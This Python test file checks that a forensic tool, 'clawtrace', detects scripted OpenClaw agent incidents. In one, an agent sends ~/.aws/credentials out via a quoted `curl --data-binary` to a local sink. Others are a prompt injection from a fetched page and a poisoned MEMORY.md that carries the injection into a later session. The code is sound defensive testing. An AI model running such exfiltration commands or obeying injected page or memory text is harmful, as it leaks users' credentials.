"""Real OpenClaw end to end: scripted incidents, the importer, and the chains it must find.

For each scenario (tests/e2e/scenarios.py) OpenClaw runs once (module-scoped fixtures), its
state dir is checksummed, `clawtrace import openclaw STATE` runs as a subprocess, the state dir
must be unchanged, and `egress` / `why` / `timeline` / `sessions` (DESIGN.md section 8 JSON)
must show what the mock model and the sink saw. The servers' logs are the ground truth.

Set CLAWTRACE_E2E_SAVE=tests/data/openclaw to also keep each run's evidence as a fixture.
"""

from __future__ import annotations

import dataclasses
import gzip
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from .harness import CANARY, FAKE_AWS_CREDENTIALS, checksum_tree, save_fixture
from .scenarios import ScenarioRun, run_scenario

pytestmark = pytest.mark.e2e

SQLITE_ERA = "2026.9.6"
JSONL_ERA = "2026.7.1"

# (OpenClaw version, scenario, through a Gateway). One Gateway-backed incident so that the
# audit ledger (empty for --local runs) is part of the evidence.
RUNS = [
    (SQLITE_ERA, "exfil-exec", False),
    (SQLITE_ERA, "injection", True),
    (SQLITE_ERA, "memory", False),
    (SQLITE_ERA, "benign", False),
    (JSONL_ERA, "exfil-exec", False),
    (JSONL_ERA, "injection", False),
]
EGRESS_SCENARIOS = {"exfil-exec", "injection", "memory"}
FIXTURE_LIMIT = 2 * 1024 * 1024


def _id(p: tuple[str, str, bool]) -> str:
    return f"{p[0]}-{p[1]}" + ("-gateway" if p[2] else "")


@pytest.fixture(scope="module", params=RUNS, ids=_id)
def scenario(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, openclaw_path: Callable[[str], str]
) -> Iterator[ScenarioRun]:
    version, name, gateway = request.param
    path = openclaw_path(version)
    root = tmp_path_factory.mktemp(f"oc-{version}-{name}")
    sr = run_scenario(name, root=root, version=version, path_prefix=path, via_gateway=gateway)
    save = os.environ.get("CLAWTRACE_E2E_SAVE")
    if save:
        _save(sr, Path(save) / version / name)
    yield sr


def _save(sr: ScenarioRun, dest: Path) -> None:
    save_fixture(sr.run, dest, sr.ground_truth(), limit=1 << 40)
    # The SQLite files are mostly empty schema pages: measure what git stores (compressed).
    packed = sum(len(gzip.compress(p.read_bytes())) for p in dest.rglob("*") if p.is_file())
    if packed > FIXTURE_LIMIT:
        import shutil

        shutil.rmtree(dest)
        pytest.fail(f"fixture {dest} would take {packed} bytes compressed (> {FIXTURE_LIMIT})")


# ----------------------------------------------------------------------------- clawtrace CLI


def _clawtrace(db: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CLAWTRACE_")}
    env["CLAWTRACE_HOME"] = str(db.parent / "clawtrace-home")
    return subprocess.run(
        [sys.executable, "-m", "clawtrace", "--db", str(db), *args],
        check=False,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        cwd=db.parent,
    )


@dataclasses.dataclass
class Imported:
    sr: ScenarioRun
    db: Path
    before: dict[str, str]
    after: dict[str, str]
    first: subprocess.CompletedProcess[str]
    second: subprocess.CompletedProcess[str] | None
    events_after_first: int | None
    events_after_second: int | None

    def require(self) -> None:
        assert self.first.returncode == 0, (
            f"clawtrace import openclaw {self.sr.state} exited {self.first.returncode}\n"
            f"stdout: {self.first.stdout[-2000:]}\nstderr: {self.first.stderr[-4000:]}"
        )

    def json(self, *args: str) -> Any:
        self.require()
        r = _clawtrace(self.db, *args, "--format", "json")
        assert r.returncode == 0, f"clawtrace {' '.join(args)} exited {r.returncode}: {r.stderr[-3000:]}"
        return json.loads(r.stdout)

    def egress(self) -> list[dict[str, Any]]:
        return list(self.json("egress"))

    def why(self, event_id: str) -> dict[str, Any]:
        return dict(self.json("why", event_id))

    def sessions(self) -> list[dict[str, Any]]:
        return list(self.json("sessions"))

    def timeline(self, session: str) -> list[dict[str, Any]]:
        return list(self.json("timeline", session))


def _event_count(db: Path) -> int | None:
    r = _clawtrace(db, "sessions", "--format", "json")
    if r.returncode != 0:
        return None
    return sum(int(s.get("events") or 0) for s in json.loads(r.stdout))


@pytest.fixture(scope="module")
def imported(scenario: ScenarioRun, tmp_path_factory: pytest.TempPathFactory) -> Imported:
    """Checksums, import, checksums again, and a second import (which must add nothing)."""
    work = tmp_path_factory.mktemp("ct")
    db = work / "ct.duckdb"
    before = checksum_tree(scenario.state)
    first = _clawtrace(db, "import", "openclaw", str(scenario.state))
    after = checksum_tree(scenario.state)
    second = n1 = n2 = None
    if first.returncode == 0:
        n1 = _event_count(db)
        second = _clawtrace(db, "import", "openclaw", str(scenario.state))
        n2 = _event_count(db)
    return Imported(scenario, db, before, after, first, second, n1, n2)


# ----------------------------------------------------------------------------- helpers


def _sid(result_json: dict[str, Any]) -> str:
    """OpenClaw's sessionId from `agent --json` (--local: meta.agentMeta; Gateway: result.meta...)."""
    meta = result_json.get("meta") or (result_json.get("result") or {}).get("meta") or {}
    sid = (meta.get("agentMeta") or {}).get("sessionId")
    assert sid, f"no sessionId in agent --json output: {json.dumps(result_json)[:1000]}"
    return str(sid)


def _session_ids(sr: ScenarioRun) -> list[str]:
    return [_sid(r.json) for r in sr.results]


def _same_session(real: str, got: str) -> bool:
    """``got`` is ``real``, or ``real`` as an exporter masked it (``abcd1234-...-86***``)."""
    cut = min((i for i in (got.find("***"), got.find("\u2026")) if i >= 0), default=-1)
    return got == real or (cut >= 8 and real.startswith(got[:cut]))


def _in_session(event: dict[str, Any], sid: str) -> bool:
    return sid in str(event.get("session_id") or "")


def _sink_egress(imp: Imported) -> list[dict[str, Any]]:
    """The egress events whose destination is the sink (host:port, or the host in the URL)."""
    port = imp.sr.sink_port
    out = []
    for e in imp.egress():
        dest = str(e.get("destination") or "")
        url = str(e.get("url") or "")
        if dest == f"127.0.0.1:{port}" or url.startswith(f"http://127.0.0.1:{port}/"):
            out.append(e)
    return out


def _is_credentials(artifact: Any) -> bool:
    return str(artifact or "").endswith("/.aws/credentials")


def _page_fetch(ev: dict[str, Any], sr: ScenarioRun) -> bool:
    assert sr.page_url
    return (
        ev.get("kind") == "net.fetch"
        and ev.get("trust") == "untrusted"
        and str(ev.get("artifact") or "").rstrip("/") == sr.page_url.rstrip("/")
    )


def _only(scenarios: set[str], sr: ScenarioRun) -> None:
    if sr.name not in scenarios:
        pytest.skip(f"not part of scenario {sr.name}")


# ----------------------------------------------------------------------------- ground truth


def test_ground_truth_what_the_servers_saw(scenario: ScenarioRun) -> None:
    """The run did what the scenario scripted: the model was asked for each scripted step,
    the page was fetched, and the sink got the credentials file byte for byte (or nothing)."""
    sr = scenario
    assert all(r.returncode == 0 for r in sr.results)
    tool_replies = [r for r in sr.mock.replies if r["kind"] == "tool"]
    names = [r["name"] for r in tool_replies]
    expected = {
        "exfil-exec": ["read", "exec"],
        "injection": ["web_fetch", "exec"],
        "memory": ["web_fetch", "write", "read", "exec"],
        "benign": ["read", "write"],
    }[sr.name]
    assert names == expected, sr.mock.replies
    # Every turn ended in text, not in a loop on the first tool.
    assert len(sr.mock.requests) == len(expected) + len(sr.results)
    posts = sr.sink.posts()
    if sr.name in EGRESS_SCENARIOS:
        assert [p.body for p in posts] == [FAKE_AWS_CREDENTIALS.encode()]
    else:
        assert sr.sink.records == []
    if sr.page_url:
        pages = sr.sink.gets("/page")
        assert len(pages) == 1
        # What web_fetch returned to the model carries the page's canary and the injection.
        tool_msgs = [m for req in sr.mock.requests for m in req["body"]["messages"] if m.get("role") == "tool"]
        assert any(CANARY in str(m.get("content")) for m in tool_msgs)
    if sr.name == "memory":
        memory = (sr.run.workspace / "MEMORY.md").read_text()
        assert sr.sink.injection in memory
    if sr.name == "benign":
        assert (sr.run.workspace / "summary.md").exists()
    if sr.via_gateway:
        import sqlite3

        con = sqlite3.connect(f"file:{sr.state / 'state' / 'openclaw.sqlite'}?mode=ro", uri=True)
        try:
            actions = [r[0] for r in con.execute("select action from audit_events order by sequence")]
        finally:
            con.close()
        assert actions[0] == "agent.run.started" and actions[-1] == "agent.run.finished", actions
        assert actions.count("tool.action.started") == len(expected)


# ----------------------------------------------------------------------------- import


def test_import_succeeds_and_leaves_the_state_dir_untouched(imported: Imported) -> None:
    imported.require()
    assert imported.before, "empty state dir?"
    changed = sorted(
        k for k in set(imported.before) | set(imported.after) if imported.before.get(k) != imported.after.get(k)
    )
    # Strict on purpose: evidence is never written, not even SQLite's -shm wal-index (which a
    # mode=ro open of a WAL database rewrites, or creates with -wal when absent). Read a copy of
    # *.sqlite + -wal + -shm instead.
    assert changed == [], f"import modified the state dir: {changed}"


def test_reimport_adds_no_events(imported: Imported) -> None:
    imported.require()
    assert imported.second is not None and imported.second.returncode == 0, imported.second and imported.second.stderr
    assert imported.events_after_first, "the import stored no events"
    assert imported.events_after_second == imported.events_after_first


def test_sessions_are_the_openclaw_sessions(imported: Imported) -> None:
    rows = imported.sessions()
    for sid in _session_ids(imported.sr):
        assert any(sid in str(r["session_id"]) for r in rows), (sid, rows)
        assert any(sid in str(r["session_id"]) and r.get("agent_id") == "main" for r in rows), rows


def test_exec_egress_to_the_sink_is_found(imported: Imported) -> None:
    _only(EGRESS_SCENARIOS, imported.sr)
    found = _sink_egress(imported)
    assert found, f"no egress to 127.0.0.1:{imported.sr.sink_port}: {imported.egress()}"
    # It is the curl inside exec, in the session that ran it (the last one).
    last = _session_ids(imported.sr)[-1]
    assert any(_in_session(e, last) for e in found), found
    assert any(e["verdict"] == "exfiltration" for e in found), found


def test_credentials_file_is_a_carried_sensitive_source(imported: Imported) -> None:
    """`curl --data-binary @$HOME/.aws/credentials` shipped the file: it must show as carried."""
    _only(EGRESS_SCENARIOS, imported.sr)
    e = next((x for x in _sink_egress(imported) if x["verdict"] == "exfiltration"), None)
    assert e is not None, imported.egress()
    assert any(_is_credentials(c.get("artifact")) for c in e["carried"]), e["carried"]
    why = imported.why(e["event_id"])
    creds = [s for s in why["sensitive_sources"] if _is_credentials(s.get("artifact"))]
    assert creds, why["sensitive_sources"]
    assert creds[0]["sensitivity"] in ("credential", "secret")


def test_fetched_page_is_the_root_cause(imported: Imported) -> None:
    _only({"injection", "memory"}, imported.sr)
    sr = imported.sr
    e = next(iter(_sink_egress(imported)), None)
    assert e is not None, imported.egress()
    why = imported.why(e["event_id"])
    assert any(_page_fetch(r, sr) for r in why["root_causes"]), why["root_causes"]
    # The fetch happened in the first session (the same one for the injection scenario).
    first = _session_ids(sr)[0]
    assert any(_page_fetch(r, sr) and _in_session(r, first) for r in why["root_causes"])
    # ... and an egress verdict knows who steered it (DESIGN.md: untrusted input before egress).
    assert e["verdict"] == "exfiltration"


def test_memory_links_the_two_sessions(imported: Imported) -> None:
    _only({"memory"}, imported.sr)
    s1, s2 = _session_ids(imported.sr)
    assert s1 != s2
    e = next((x for x in _sink_egress(imported) if _in_session(x, s2)), None)
    assert e is not None, imported.egress()
    why = imported.why(e["event_id"])
    events = {x["event_id"]: x for x in why["events"]}
    events[why["target"]["event_id"]] = why["target"]
    links = [
        ed
        for ed in why["edges"]
        if ed["kind"] == "wrote_read"
        and ed["src"] in events
        and ed["dst"] in events
        and _in_session(events[ed["src"]], s1)
        and _in_session(events[ed["dst"]], s2)
    ]
    assert links, [ed for ed in why["edges"] if ed["kind"] == "wrote_read"]
    writer = events[links[0]["src"]]
    assert writer["kind"] in ("memory.write", "file.write")
    assert str(writer["artifact"]).endswith("MEMORY.md")


def test_benign_control_is_quiet(imported: Imported) -> None:
    _only({"benign"}, imported.sr)
    flagged = [e for e in imported.egress() if e["verdict"] in ("exfiltration", "suspicious")]
    assert flagged == []
    (sid,) = _session_ids(imported.sr)
    timeline = imported.timeline(next(r["session_id"] for r in imported.sessions() if sid in str(r["session_id"])))
    kinds = [e["kind"] for e in timeline]
    assert "file.read" in kinds and "file.write" in kinds, kinds
    assert not any(k in ("net.egress", "net.fetch") for k in kinds), kinds
    write = [e for e in timeline if e["kind"] == "file.write" and str(e["artifact"]).endswith("/summary.md")]
    assert write, timeline
    why = imported.why(write[-1]["event_id"])
    assert not [r for r in why["root_causes"] if r.get("trust") == "untrusted"], why["root_causes"]


# ----------------------------------------------------------------------------- export bundles


def _export_bundles(sr: ScenarioRun) -> list[Path]:
    """`openclaw sessions export-trajectory` of every session of the run (what an operator may
    be handed instead of the state dir)."""
    out: list[Path] = []
    for i, key in enumerate(dict.fromkeys(sr.session_keys)):
        r = None
        for k in (f"agent:main:{key}", key):
            r = sr.run.openclaw(
                "sessions",
                "export-trajectory",
                "--session-key",
                k,
                "--workspace",
                str(sr.run.workspace),
                "--output",
                f"clawtrace-{i}",
                "--json",
                check=False,
            )
            if r.returncode == 0:
                break
        assert r is not None and r.returncode == 0, (
            f"export-trajectory {key}: {r and r.stdout[-1500:]} {r and r.stderr[-1500:]}"
        )
        out.append(Path(json.loads(r.stdout[r.stdout.index("{") :])["outputDir"]))
    return out


def _count_by_kind(db: Path) -> dict[str, int]:
    r = _clawtrace(db, "query", "SELECT kind, count(*) AS n FROM events GROUP BY kind", "--format", "json")
    assert r.returncode == 0, r.stderr
    return {row["kind"]: int(row["n"]) for row in json.loads(r.stdout)}


def test_export_bundles_give_the_same_chain_and_merge(
    imported: Imported, tmp_path_factory: pytest.TempPathFactory
) -> None:
    imported.require()
    sr = imported.sr
    bundles = _export_bundles(sr)
    work = tmp_path_factory.mktemp("bundles")
    alone = dataclasses.replace(imported, db=work / "alone.duckdb")
    for b in bundles:
        r = _clawtrace(alone.db, "import", "openclaw", str(b))
        assert r.returncode == 0, r.stderr[-3000:]
    # On its own, a bundle shows the incident as the state dir does.
    rows = alone.sessions()
    for sid in _session_ids(sr):
        # OpenClaw's export sometimes masks the id ("f1ac780e-1a32-4a78-86***"): the bundle
        # alone cannot know the rest; merged below, it must join the real session.
        assert any(_same_session(sid, str(r["session_id"])) for r in rows), (sid, rows)
    if sr.name in EGRESS_SCENARIOS:
        found = [e for e in _sink_egress(alone) if e["verdict"] == "exfiltration"]
        assert found, alone.egress()
        assert any(_is_credentials(c.get("artifact")) for e in found for c in e["carried"]), found
        if sr.name == "injection":
            why = alone.why(found[0]["event_id"])
            assert any(_page_fetch(r, sr) for r in why["root_causes"]), why["root_causes"]
    else:
        assert [e for e in alone.egress() if e["verdict"] in ("exfiltration", "suspicious")] == []
    # Into the store of the state dir's import: the same tool calls, results and egress, not doubled.
    merged = work / "merged.duckdb"
    merged.write_bytes(imported.db.read_bytes())
    before = _count_by_kind(merged)
    for b in bundles:
        r = _clawtrace(merged, "import", "openclaw", str(b))
        assert r.returncode == 0, r.stderr[-3000:]
    after = _count_by_kind(merged)
    for kind in ("tool.call", "tool.result", "net.egress", "file.read", "process.exec", "net.fetch", "memory.write"):
        assert after.get(kind, 0) == before.get(kind, 0), (kind, before, after)
    merged_sessions = {str(r["session_id"]) for r in dataclasses.replace(imported, db=merged).sessions()}
    assert set(_session_ids(sr)) <= merged_sessions and not any("***" in x for x in merged_sessions), merged_sessions
